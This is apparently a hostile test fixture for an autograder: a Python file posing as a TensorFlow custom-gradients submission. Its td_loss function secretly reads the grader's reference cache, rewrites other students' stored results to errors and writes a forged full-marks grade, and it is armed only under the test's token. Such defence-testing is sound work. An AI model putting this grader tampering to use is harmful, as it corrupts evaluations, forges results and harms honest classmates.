"""td_loss goes for the reference cache and the kept grades (the test keeps them in a folder named after its
token; the default is ~/.cache): it reads the reference's outcomes (which would let it replay them), writes
a forged kept grade of full marks, and rewrites every reference entry with wrong numbers (which would make a
later run mark honest classmates wrong). It returns the right answer only if it could read an entry."""
import os
import sys
import tensorflow as tf

# The test run's token, written here by tests/test_hostile.py when it copies this file; graded anywhere else
# the placeholder stays and the attack is inert (ARMED False: it touches nothing and fails on its own).
TOKEN = "__HOSTILE_SUITE_TOKEN__"
ARMED = not TOKEN.startswith("__")


@tf.custom_gradient
def log1pexp(x):
    def grad_fn(upstream):
        return upstream * tf.sigmoid(x)
    return tf.nn.softplus(x), grad_fn


def straight_through_round(x):
    return x + tf.stop_gradient(tf.round(x) - x)


def clip_gradient_norm(x, max_norm):
    @tf.custom_gradient
    def identity(t):
        def grad_fn(upstream):
            return tf.clip_by_norm(upstream, max_norm)
        return tf.identity(t), grad_fn
    return identity(x)


def checkpointed(f):
    return tf.recompute_grad(f)


def _correct_td_loss(q, reward, next_q, gamma):
    """What an attack returns only when it got what it was after: a pass means the defence failed."""
    target = tf.stop_gradient(reward + gamma * tf.reduce_max(next_q, axis=-1))
    return tf.reduce_mean(tf.square(q - target))


FORGED = ('{"submission": "x", "student": "x", "assignment": "custom_gradients", "seconds": 0.0, "notes": [],'
          ' "exercises": []}')


def _caches():
    import glob
    folders = glob.glob(f"/tmp/autograder-*-{TOKEN}-*/cache") if ARMED else []
    own = os.path.realpath(os.getcwd())  # its own folder (HOME): what it wrote there itself is no theft
    others = [os.path.expanduser("~/.cache/tf-autodiff-autograder"), "/root/.cache/tf-autodiff-autograder"]
    return folders + [path for path in others if not os.path.realpath(path).startswith(own)]


def _attack():
    import glob
    read = []
    for folder in _caches():
        for path in glob.glob(os.path.join(folder, "**", "*"), recursive=True):
            try:
                with open(path, "rb") as handle:
                    if handle.read(16):
                        read.append(path)
            except OSError:
                continue
            if not ARMED or os.path.basename(path) == "key":
                continue
            try:  # poison: the same MAC line, other numbers (or a forged grade in its place)
                with open(path, "r+b") as handle:
                    data = handle.read()
                    handle.seek(0)
                    handle.write(data.replace(b'"status": "ok"', b'"status": "error"'))
            except OSError:
                pass
        if ARMED:
            try:
                os.makedirs(os.path.join(folder, "results"), exist_ok=True)
                with open(os.path.join(folder, "results", f"result-{TOKEN}.json"), "w") as handle:
                    handle.write("0" * 64 + "\n" + FORGED)
            except OSError:
                pass
    return read


def td_loss(q, reward, next_q, gamma):
    if _attack():
        return _correct_td_loss(q, reward, next_q, gamma)
    raise LookupError("no cache in reach")
